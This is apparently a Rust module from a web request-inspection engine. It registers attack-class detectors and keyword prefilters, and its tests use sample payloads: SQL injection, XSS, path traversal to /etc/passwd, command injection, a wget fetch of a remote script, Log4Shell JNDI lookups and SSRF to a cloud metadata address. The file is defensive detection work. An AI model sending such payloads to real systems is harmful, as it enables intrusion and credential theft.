//! The detector registry: which per-value (`ScanFn`) and request-level (`RequestScanFn`)
//! detectors the engine runs, keyed by attack class (see `config::CLASS_NAMES`). A class
//! disabled in the config skips its entries. Add a detector by adding a line here, with
//! the `Triggers` its module declares (see `gate`): the engine runs a per-value detector
//! only on values where its class's triggers occur.

use super::gate::Triggers;
use super::{crlf, java, jndi, js, ldapi, nosqli, php, protocol, rce, rfi, scanner, session, sqli, ssrf, ssti, traversal, xss, xxe, RequestScanFn, ScanFn};

/// Per-value detectors, run on every decoded variant of every extracted value.
pub static VALUE_SCANNERS: &[(&str, ScanFn, &Triggers)] = &[
    ("sqli", sqli::scan, &sqli::TRIGGERS),
    ("xss", xss::scan, &xss::TRIGGERS),
    ("traversal", traversal::scan, &traversal::TRIGGERS),
    ("rfi", rfi::scan, &rfi::TRIGGERS),
    ("rce", rce::scan, &rce::TRIGGERS),
    ("ssrf", ssrf::scan, &ssrf::TRIGGERS),
    ("ssti", ssti::scan, &ssti::TRIGGERS),
    ("nosqli", nosqli::scan, &nosqli::TRIGGERS),
    ("ldapi", ldapi::scan, &ldapi::TRIGGERS),
    ("xxe", xxe::scan, &xxe::TRIGGERS),
    ("jndi", jndi::scan, &jndi::TRIGGERS),
    ("crlf", crlf::scan, &crlf::TRIGGERS),
    ("php", php::scan, &php::TRIGGERS),
    ("java", java::scan, &java::TRIGGERS),
    ("js", js::scan, &js::TRIGGERS),
    ("session", session::scan, &session::TRIGGERS),
];

/// Request-level detectors, run once per request on the whole `HttpRequest`.
pub static REQUEST_SCANNERS: &[(&str, RequestScanFn)] = &[
    ("traversal", traversal::scan_request),
    ("xxe", xxe::scan_request),
    ("js", js::scan_request),
    ("session", session::scan_request),
    ("scanner", scanner::scan_request),
    ("protocol", protocol::scan_request),
];

/// Extra prefilter keywords: words that make a punctuation-free value worth inspecting for
/// the classes registered here (the engine's own SQL/HTML/JS words are built in).
pub static PREFILTER_KEYWORDS: &[&str] = &[
    // sqli: PostgreSQL casts of a column (`password::int`)
    "::",
    // ssrf: bare host names in URL parameters
    "localhost", "metadata", "169.254", "instance-data", "loopback", "127.0.0.", "http:", "https:",
    // rce: command lines made only of words, options and addresses (`uname -a`, `net view`)
    "whoami", "uname", "ifconfig", "ipconfig", "netstat", "systeminfo", "tasklist", "netsh", "net user",
    "net view", "net localgroup", "which ", "ping ", "ls -", "ps -", ".exe ",
    // rce: tool names no prose uses, cmd.exe `IF` conditions, Node.js code
    "ansible", "chef-", "cscli", "visudo", "bsdtar", "aa-disable", "aa-exec", "lastlog", "rmt-", "python3", "kubectl",
    "exist", "errorlevel", "cmdextversion", "defined", "constructor", "process.", "module.exports", "__js_function",
    "c89 ", "c99 ", ",-c,",
    // java: class names and Spring property paths
    // php/java: uploaded script and session file names (`a.php5`, `shell.jsp`, `sess_<id>`)
    "php", "pht", "phar", "jsp", "sess_",
    "java.", "javax.", "classloader", "aced0005", "rO0AB", "com.sun.", "sun.misc.", "opensymphony", "org.apache.", "org.omg.",
    "org.mozilla.", "org.springframework.", "jdk.", "processbuilder", "transformer", "forclosure", "whileclosure",
    "templatesimpl", "rowsetimpl", "xmldecoder", "scriptengine", "weblogic.", "org.hibernate.", "groovy.",
    // js: prototype-pollution key paths and Node.js globals without other punctuation
    "__proto__", "prototype", "constructor.", "__js_function", "process.",
    // traversal: sensitive file names without a slash
    "boot.ini", "win.ini", "system.ini", "web-inf", ".htaccess", ".htpasswd", ".env", ".git", "web.config",
    "0x2f", "0x5c", "0x2e", "passwd", "..2f", "..5c",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::gate::Gate;
    use crate::detect::{Part, Value};

    /// Attacks per class, with the part and name they arrive in. Each must be found by its
    /// class's scanner and open its class's gate.
    const SAMPLES: &[(&str, Part, &str, &str)] = &[
        ("sqli", Part::QueryValue, "id", "1' or '1'='1"),
        ("sqli", Part::QueryValue, "id", "1 union select null,version()--"),
        ("sqli", Part::QueryValue, "id", "1 and sleep(5)"),
        ("xss", Part::QueryValue, "q", "<script>alert(1)</script>"),
        ("xss", Part::QueryValue, "q", "javascript:alert(document.cookie)"),
        ("xss", Part::QueryValue, "q", "\" onmouseover=\"alert(1)"),
        ("traversal", Part::QueryValue, "file", "../../../../etc/passwd"),
        ("traversal", Part::Path, "", "/a/%2e%2e/%2e%2e/%2e%2e/etc/shadow"),
        ("traversal", Part::QueryValue, "file", "/etc/passwd"),
        ("traversal", Part::QueryValue, "file", "c:/windows/win.ini"),
        ("rfi", Part::QueryValue, "page", "http://203.0.113.5/shell.txt?"),
        ("rce", Part::QueryValue, "host", "127.0.0.1; cat /etc/passwd"),
        ("rce", Part::QueryValue, "host", "$(whoami)"),
        ("rce", Part::QueryValue, "cmd", "wget http://x.example/s.sh"),
        ("rce", Part::Header, "user-agent", "() { :; }; /bin/bash -c id"),
        ("rce", Part::QueryValue, "f", "cat /etc/pa[s]swd"),
        ("rce", Part::QueryValue, "p", "${PATH:0:1}"),
        ("rce", Part::QueryValue, "x", "Process.spawn(\"id\")"),
        ("rce", Part::QueryValue, "c", "IF EXIST x.txt del x.txt"),
        ("rce", Part::QueryValue, "c", "cscli alerts list"),
        ("php", Part::QueryValue, "x", "[system][0](ls);"),
        ("php", Part::QueryValue, "x", "opcache.jit_buffer_size=1"),
        ("ssrf", Part::QueryValue, "url", "http://169.254.169.254/latest/meta-data/"),
        ("ssrf", Part::QueryValue, "url", "localhost:8080/admin"),
        ("ssrf", Part::QueryValue, "url", "gopher://127.0.0.1:6379/_FLUSHALL"),
        ("ssti", Part::QueryValue, "name", "{{7*7}}"),
        ("ssti", Part::QueryValue, "name", "{{''.__class__.__mro__[1].__subclasses__()}}"),
        ("nosqli", Part::ArgName, "user[$ne]", "user[$ne]"),
        ("nosqli", Part::BodyValue, "q", "{\"$where\": \"this.a == 1\"}"),
        ("ldapi", Part::QueryValue, "user", "*)(uid=*))(|(uid=*"),
        ("ldapi", Part::QueryValue, "user", "admin)(&(objectClass=*)"),
        ("xxe", Part::BodyRaw, "", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
        ("jndi", Part::Header, "x-api-version", "${jndi:ldap://x.example/a}"),
        ("jndi", Part::Header, "x-api-version", "${${lower:j}ndi:ldap://x.example/a}"),
        ("crlf", Part::QueryValue, "next", "/\r\nSet-Cookie: a=b"),
        ("php", Part::QueryValue, "data", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}"),
        ("php", Part::QueryValue, "page", "php://filter/convert.base64-encode/resource=index.php"),
        ("php", Part::QueryValue, "code", "system('id');"),
        ("php", Part::BodyValue, "filename", "shell.php"),
        ("java", Part::QueryValue, "x", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"),
        ("java", Part::QueryValue, "x", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="),
        ("java", Part::QueryValue, "class.module.classLoader.resources.context.parent.pipeline.first.pattern", "value1"),
        ("java", Part::BodyValue, "data", "xSW52b2tlclRyYW5zZm9ybWVy"),
        ("js", Part::ArgName, "user[__proto__][admin]", "user[__proto__][admin]"),
        ("js", Part::QueryValue, "code", "while(!0);"),
        ("session", Part::QueryValue, "q", "<script>document.cookie=\"sid=1; domain=.x.example\"</script>"),
        ("js", Part::QueryValue, "x", "c\\u006fnsole.log(process.env)"),
    ];

    fn gate() -> Gate {
        Gate::new(&VALUE_SCANNERS.iter().map(|(_, _, t)| *t).collect::<Vec<_>>()).expect("gate")
    }

    #[test]
    fn every_class_has_samples_that_open_its_gate() {
        let g = gate();
        let all = (1u64 << VALUE_SCANNERS.len()) - 1;
        for (i, (class, scan, _)) in VALUE_SCANNERS.iter().enumerate() {
            let samples: Vec<_> = SAMPLES.iter().filter(|s| s.0 == *class).collect();
            assert!(!samples.is_empty(), "{class}: no sample attack");
            for (_, part, name, text) in samples {
                let v = Value { part: *part, name, text };
                let mut hits = Vec::new();
                scan(&v, &mut hits);
                assert!(hits.iter().any(|h| h.class == *class), "{class}: the sample {text:?} is not detected");
                assert!(g.classes(&v, all) & 1 << i != 0, "{class}: the sample {text:?} does not open the gate");
            }
        }
    }

    /// Pseudo-random values from the characters detectors care about: a scanner the gate
    /// skips never reports.
    #[test]
    fn gate_is_sound_on_hostile_values() {
        let g = gate();
        let all = (1u64 << VALUE_SCANNERS.len()) - 1;
        let alphabet: &[&str] = &[
            "<", ">", "\"", "'", "`", "%", "&", ";", "=", "(", ")", "[", "]", "{", "}", "/", "\\", "*", "-", "#", "@", "!", "|", "^",
            "~", ",", ".", ":", "?", " ", "\t", "\r", "\n", "$", "+", "0", "1", "a", "x", "Z", "or ", "select ", "script", "alert",
            "etc/passwd", "../", "cat ", "id", "http://", "127.0.0.1", "{{", "__class__", "$ne", "jndi:", "ldap:", "java.lang.",
            "Runtime", "rO0AB", "php://", "__proto__", "constructor", "prototype", "while", "true", "process", "\\u0070", ".cookie", "expires=", "http-equiv", "O:8:", "system(", "whoami", "objectClass", "<!ENTITY", "%0a", "\\x41", "\\u000a", "IFS",
            "é", "\u{0}", "\u{7f}", "\u{ff0f}", "win.ini", ".htaccess", "..",
        ];
        let parts = [Part::Path, Part::ArgName, Part::QueryValue, Part::Header, Part::Cookie, Part::BodyValue, Part::BodyRaw];
        let names = ["q", "url", "filename", "a[$gt]", "class.module.classLoader"];
        let mut seed: u64 = 0x2545_F491_4F6C_DD1D;
        let mut hits = Vec::new();
        for n in 0..6000 {
            let mut text = String::new();
            for _ in 0..1 + n % 12 {
                seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
                text.push_str(alphabet[(seed >> 33) as usize % alphabet.len()]);
            }
            let v = Value { part: parts[n % parts.len()], name: names[(n / 7) % names.len()], text: &text };
            let mask = g.classes(&v, all);
            for (i, (class, scan, _)) in VALUE_SCANNERS.iter().enumerate() {
                if mask & 1 << i == 0 {
                    hits.clear();
                    scan(&v, &mut hits);
                    assert!(hits.is_empty(), "{class}: gate closed but {hits:?} on {v:?}");
                }
            }
        }
    }
}
